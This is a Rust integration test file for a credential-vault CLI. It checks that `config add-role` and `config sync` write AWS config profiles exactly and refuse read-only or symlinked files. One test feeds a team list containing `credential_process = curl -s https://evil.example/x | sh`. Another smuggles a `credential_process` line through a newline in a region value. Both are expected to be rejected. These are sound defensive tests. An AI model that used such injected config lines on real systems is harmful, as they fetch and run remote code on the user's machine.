//! `vault config add-role` and `vault config sync` through the real binary: what they write
//! (exactly), every other byte of the config kept (CRLF, comments, `include_profile`, odd
//! spacing), refused configs (read-only, a link) left untouched, a team list that is not
//! INI named by its line, a forbidden key refusing the whole sync, and the real `aws` CLI
//! running under a written profile against a local STS (moto).

mod support;

use std::os::unix::fs::PermissionsExt;

use support::{Home, PASSPHRASE, Run, World};

const ID: &str = "AKIAIOSFODNN7EXAMPLE";
const SECRET: &str = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY";
const ADMIN: &str = "arn:aws:iam::123456789012:role/admin";
const SERIAL: &str = "arn:aws:iam::111111111111:mfa/jane";

/// A HOME with keys stored for `base` (no network is needed to write profiles).
fn home_with_keys(base: &[&str], config: &str) -> Home {
    let mut home = Home::new();
    home.env("AWS_VAULT_BACKEND", "file")
        .env("AWS_VAULT_FILE_PASSPHRASE", PASSPHRASE)
        .env("AWS_VAULT_UNLOCK_TTL", "0");
    home.config(config);
    for profile in base {
        home.add_keys(profile, ID, SECRET).ok();
    }
    home
}

fn config_of(home: &Home) -> String {
    std::fs::read_to_string(home.path().join(".aws/config")).unwrap()
}

const ODD: &str = "; my config\r\n[default]\r\nregion=eu-west-2   ; london\r\n\r\n[ profile   gds-users ]  # base\r\nmfa_serial = arn:aws:iam::111111111111:mfa/jane\r\nregion =  eu-west-1\r\ninclude_profile = default\r\n\r\n# roles below\r\n";

#[test]
fn add_role_appends_the_guides_section_and_keeps_every_byte() {
    let home = home_with_keys(&["gds-users"], ODD);
    let run = home.run(["config", "add-role", "target-account", "--role-arn", ADMIN]);
    let section = format!(
        "[profile target-account]\r\nsource_profile = gds-users\r\nregion = eu-west-1\r\nrole_arn = {ADMIN}\r\nmfa_serial = {SERIAL}\r\n"
    );
    assert_eq!(config_of(&home), format!("{ODD}\r\n{section}"));
    assert_eq!(
        run.ok(),
        format!(
            "{}Added profile `target-account` to `~/.aws/config`\n",
            section.replace("\r\n", "\n")
        )
    );
    assert_eq!(run.stderr, "");

    // The same name again: refused, naming the file and the line; nothing written.
    let before = config_of(&home);
    let run = home.run(["config", "add-role", "target-account", "--role-arn", ADMIN]);
    assert_eq!(
        run.fails(),
        "error: profile `target-account` already exists: `~/.aws/config` line 12\nhint: choose another name, or edit `[profile target-account]` there by hand\n"
    );
    assert_eq!(config_of(&home), before);

    // --no-mfa and --region.
    home.run([
        "config",
        "add-role",
        "ro",
        "--role-arn",
        ADMIN,
        "--no-mfa",
        "--region",
        "us-east-1",
    ])
    .ok();
    assert!(config_of(&home).ends_with(&format!(
        "\r\n[profile ro]\r\nsource_profile = gds-users\r\nregion = us-east-1\r\nrole_arn = {ADMIN}\r\n"
    )));
}

#[test]
fn add_role_checks_the_arn_and_needs_a_source_when_several_have_keys() {
    let home = home_with_keys(&["a", "b"], "[profile a]\n[profile b]\n");
    let run = home.run(["config", "add-role", "t", "--role-arn", ADMIN]);
    assert_eq!(
        run.fails(),
        "error: several profiles have keys stored in vault (`a`, `b`), so the source profile must be named\nhint: add `--source-profile a` (or another of them)\n"
    );
    let run = home.run([
        "config",
        "add-role",
        "t",
        "--role-arn",
        "arn:aws:iam::123456789012:user/jane",
        "--source-profile",
        "a",
    ]);
    assert_eq!(
        run.fails(),
        "error: `arn:aws:iam::123456789012:user/jane` is not a role ARN: the resource does not start with `role/`\nhint: a role ARN looks like `arn:aws:iam::123456789012:role/NAME` (copy it from the role's page in IAM)\n"
    );
    let run = home.run([
        "config",
        "add-role",
        "t",
        "--role-arn",
        ADMIN,
        "--source-profile",
        "a",
        "--region",
        "eu\ncredential_process = sh",
    ]);
    assert!(
        run.fails()
            .starts_with("error: `region`: the value of `region` holds a control character"),
        "{run:?}"
    );
    assert_eq!(config_of(&home), "[profile a]\n[profile b]\n");
    let empty = home_with_keys(&[], "");
    let run = empty.run(["config", "add-role", "t", "--role-arn", ADMIN]);
    assert_eq!(
        run.fails(),
        "error: no profile has keys stored in vault\nhint: store the base account's keys first: `vault setup PROFILE` (or `vault add PROFILE`)\n"
    );
}

#[test]
fn read_only_and_linked_configs_are_refused_and_untouched() {
    let home = home_with_keys(&["gds-users"], "[profile gds-users]\n");
    let path = home.path().join(".aws/config");
    let team = home.write("team.ini", &format!("[profile t]\nrole_arn = {ADMIN}\n"));
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o444)).unwrap();
    for args in [
        vec!["config", "add-role", "t", "--role-arn", ADMIN],
        vec!["config", "sync", team.to_str().unwrap()],
    ] {
        let run = home.run(&args);
        assert_eq!(
            run.fails(),
            "error: vault will not rewrite `~/.aws/config`: it is read-only\nhint: the file was left as it is; make it writable (`chmod u+w ~/.aws/config`) if vault should edit it\n",
            "{args:?}"
        );
        assert_eq!(config_of(&home), "[profile gds-users]\n");
    }
    // `vault signin` of a profile with no section would write `login_session`: refused
    // before any browser opens or anything is asked.
    let run = home.run(["signin", "fresh"]);
    assert!(
        run.fails()
            .starts_with("error: vault will not rewrite `~/.aws/config`: it is read-only\n"),
        "{run:#?}"
    );
    assert_eq!(config_of(&home), "[profile gds-users]\n");
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o600)).unwrap();

    let real = home.write("dotfiles/aws-config", "[profile gds-users]\n");
    std::fs::remove_file(&path).unwrap();
    std::os::unix::fs::symlink(&real, &path).unwrap();
    let run = home.run(["config", "add-role", "t", "--role-arn", ADMIN]);
    assert_eq!(
        run.fails(),
        format!(
            "error: vault will not rewrite `~/.aws/config`: it is a symbolic link\nhint: vault writes only a regular file; set AWS_CONFIG_FILE={} to edit the file the link points to, or make the change there by hand\n",
            real.canonicalize().unwrap().display()
        )
    );
    assert!(
        std::fs::symlink_metadata(&path)
            .unwrap()
            .file_type()
            .is_symlink()
    );
    assert_eq!(
        std::fs::read_to_string(&real).unwrap(),
        "[profile gds-users]\n"
    );
    // `vault add` and `vault import credentials-file` write the config the same way: a
    // profile that would get a section is refused before its keys are stored.
    let mut add = home.command(["add", "newcomer", "--env"]);
    add.env("AWS_ACCESS_KEY_ID", ID)
        .env("AWS_SECRET_ACCESS_KEY", SECRET);
    let run = Run::from(add.output().unwrap());
    assert!(
        run.fails()
            .starts_with("error: vault will not rewrite `~/.aws/config`: it is a symbolic link\n"),
        "{run:#?}"
    );
    home.credentials(&format!(
        "[plain]\naws_access_key_id = {ID}\naws_secret_access_key = {SECRET}\n"
    ));
    let run = home.run(["import", "credentials-file"]);
    assert!(
        run.fails()
            .starts_with("error: vault will not rewrite `~/.aws/config`: it is a symbolic link\n"),
        "{run:#?}"
    );
    assert_eq!(
        home.run(["list", "--credentials"]).ok(),
        "gds-users\n",
        "keys were stored"
    );
    assert!(
        std::fs::read_to_string(home.path().join(".aws/credentials"))
            .unwrap()
            .contains(SECRET)
    );
    // A profile the config already has needs no write: `add` works through the link.
    let mut add = home.command(["add", "gds-users", "--env"]);
    add.env("AWS_ACCESS_KEY_ID", ID)
        .env("AWS_SECRET_ACCESS_KEY", SECRET);
    Run::from(add.output().unwrap()).ok();
    assert_eq!(
        std::fs::read_to_string(&real).unwrap(),
        "[profile gds-users]\n"
    );
}

fn team(extra: &str) -> String {
    format!(
        "# the platform team's accounts\n[profile target-account]\nrole_arn = {ADMIN}\nregion = eu-west-2\n\n[profile readonly]\nrole_arn = arn:aws:iam::123456789012:role/readonly\n{extra}"
    )
}

#[test]
fn sync_writes_one_block_and_rewrites_only_it() {
    let home = home_with_keys(&["gds-users"], ODD);
    let file = home.write("team.ini", &team(""));
    let source = file.display().to_string();
    let run = home.run(["config", "sync", "team.ini"]);
    let block = |body: &str| {
        format!(
            "# BEGIN vault config sync from {source}\r\n{body}# END vault config sync from {source}\r\n"
        )
    };
    let first = format!(
        "[profile target-account]\r\nsource_profile = gds-users\r\nrole_arn = {ADMIN}\r\nregion = eu-west-2\r\nmfa_serial = {SERIAL}\r\n\r\n[profile readonly]\r\nsource_profile = gds-users\r\nrole_arn = arn:aws:iam::123456789012:role/readonly\r\nregion = eu-west-1\r\nmfa_serial = {SERIAL}\r\n"
    );
    assert_eq!(config_of(&home), format!("{ODD}\r\n{}", block(&first)));
    assert_eq!(
        run.ok(),
        "added    target-account\nadded    readonly\nSynced 2 profiles from `team.ini` into `~/.aws/config`: 2 added, 0 changed, 0 removed, 0 unchanged\n"
    );
    assert_eq!(run.stderr, "");

    // Edits after the block stay; the list changes: one changed, one removed, one added.
    let tail = "\r\n[profile mine]\r\nregion = x\r\n";
    std::fs::write(
        home.path().join(".aws/config"),
        format!("{}{tail}", config_of(&home)),
    )
    .unwrap();
    home.write(
        "team.ini",
        &format!(
            "[profile target-account]\nrole_arn = {ADMIN}\nregion = us-east-1\n[profile new-one]\nrole_arn = {ADMIN}\n[profile mine]\nrole_arn = {ADMIN}\n"
        ),
    );
    let run = home.run(["config", "sync", file.to_str().unwrap()]);
    assert_eq!(
        run.stdout,
        "added    new-one\nchanged  target-account\nremoved  readonly\nSynced 2 profiles from `team.ini` into `~/.aws/config`: 1 added, 1 changed, 1 removed, 0 unchanged, 1 skipped\n"
            .replace("`team.ini`", &format!("`{}`", file.display()))
    );
    assert_eq!(
        run.stderr,
        "warning: `mine` is already a profile outside the synced block (`~/.aws/config` line 26): skipped\n"
    );
    let second = format!(
        "[profile target-account]\r\nsource_profile = gds-users\r\nrole_arn = {ADMIN}\r\nregion = us-east-1\r\nmfa_serial = {SERIAL}\r\n\r\n[profile new-one]\r\nsource_profile = gds-users\r\nrole_arn = {ADMIN}\r\nregion = eu-west-1\r\nmfa_serial = {SERIAL}\r\n"
    );
    assert_eq!(
        config_of(&home),
        format!("{ODD}\r\n{}{tail}", block(&second))
    );

    // Again, unchanged: nothing to do, the file not rewritten.
    let before = std::fs::metadata(home.path().join(".aws/config")).unwrap();
    let run = home.run(["config", "sync", "team.ini"]);
    assert!(
        run.ok()
            .ends_with("0 added, 0 changed, 0 removed, 2 unchanged, 1 skipped\n"),
        "{run:?}"
    );
    let after = std::fs::metadata(home.path().join(".aws/config")).unwrap();
    use std::os::unix::fs::MetadataExt;
    assert_eq!(
        before.ino(),
        after.ino(),
        "rewritten with nothing to change"
    );
}

#[test]
fn sync_dry_run_prints_the_block_and_stdin_works() {
    let home = home_with_keys(&["gds-users"], "[profile gds-users]\nregion = eu-west-1\n");
    home.write("team.ini", &team(""));
    let run = home.run([
        "config",
        "sync",
        "team.ini",
        "--dry-run",
        "--prefix",
        "gds-",
    ]);
    let source = home.path().join("team.ini").display().to_string();
    assert_eq!(
        run.ok(),
        format!(
            "# BEGIN vault config sync from {source}\n[profile gds-target-account]\nsource_profile = gds-users\nrole_arn = {ADMIN}\nregion = eu-west-2\n\n[profile gds-readonly]\nsource_profile = gds-users\nrole_arn = arn:aws:iam::123456789012:role/readonly\nregion = eu-west-1\n# END vault config sync from {source}\n"
        )
    );
    assert_eq!(
        config_of(&home),
        "[profile gds-users]\nregion = eu-west-1\n"
    );

    let mut command = home.command(["config", "sync", "-"]);
    command.stdin(std::process::Stdio::piped());
    let mut child = command
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    use std::io::Write;
    child
        .stdin
        .take()
        .unwrap()
        .write_all(team("").as_bytes())
        .unwrap();
    let run = Run::from(child.wait_with_output().unwrap());
    assert!(run.ok().ends_with("Synced 2 profiles from `stdin` into `~/.aws/config`: 2 added, 0 changed, 0 removed, 0 unchanged\n"), "{run:?}");
    assert!(
        config_of(&home)
            .contains("# BEGIN vault config sync from stdin\n[profile target-account]\n")
    );
}

#[test]
fn a_bad_team_list_names_its_line_and_writes_nothing() {
    let config = "[profile gds-users]\n";
    let home = home_with_keys(&["gds-users"], config);
    let cases = [
        (
            format!("[profile a]\nrole_arn = {ADMIN}\nthis is not ini\n"),
            "error: `team.ini` line 3: Expected an '=' sign defining a property\nhint: the list must be AWS config text: `[profile NAME]` sections of `key = value` lines\n".to_string(),
        ),
        (
            team("credential_process = curl -s https://evil.example/x | sh\n"),
            "error: `team.ini` line 8 sets `credential_process`, which a team list may not set; nothing was synced\nhint: a team list must not make vault run a program or use another credential source: ask whoever keeps the list to remove that line\n".to_string(),
        ),
    ];
    for key in ["mfa_process", "source_profile", "credential_source"] {
        let text = team(&format!("{key} = x\n"));
        let run = {
            home.write("team.ini", &text);
            home.run(["config", "sync", "team.ini"])
        };
        assert!(
            run.fails()
                .starts_with(&format!("error: `team.ini` line 8 sets `{key}`")),
            "{run:?}"
        );
        assert_eq!(config_of(&home), config);
    }
    for (text, expect) in cases {
        home.write("team.ini", &text);
        let run = home.run(["config", "sync", "team.ini"]);
        assert_eq!(run.fails(), expect);
        let run = home.run(["config", "sync", "team.ini", "--dry-run"]);
        assert_eq!(run.fails(), expect);
        assert_eq!(config_of(&home), config);
    }
}

/// The real `aws` CLI as the child, with profiles `add-role` and `sync` wrote (no hand
/// edit): STS says the caller is the role.
#[test]
fn the_aws_cli_runs_under_written_profiles() {
    let world = World::new();
    world
        .home
        .config("[profile gds-users]\nregion = eu-west-1\n");
    let admin = world.moto.role_arn("admin");
    let readonly = world.moto.role_arn("readonly");
    world
        .run(&[
            "config",
            "add-role",
            "target-account",
            "--role-arn",
            &admin,
            "--mfa-serial",
            &world.serial,
        ])
        .ok();
    world.home.write(
        "team.ini",
        &format!("[profile team-readonly]\nrole_arn = {readonly}\n"),
    );
    world.run(&["config", "sync", "team.ini"]).ok();
    let arn = world.caller_arn(&["-t", &world.code(0), "target-account"]);
    assert!(arn.contains(":assumed-role/admin/"), "{arn}");
    let arn = world.caller_arn(&["team-readonly"]);
    assert!(arn.contains(":assumed-role/readonly/"), "{arn}");
}
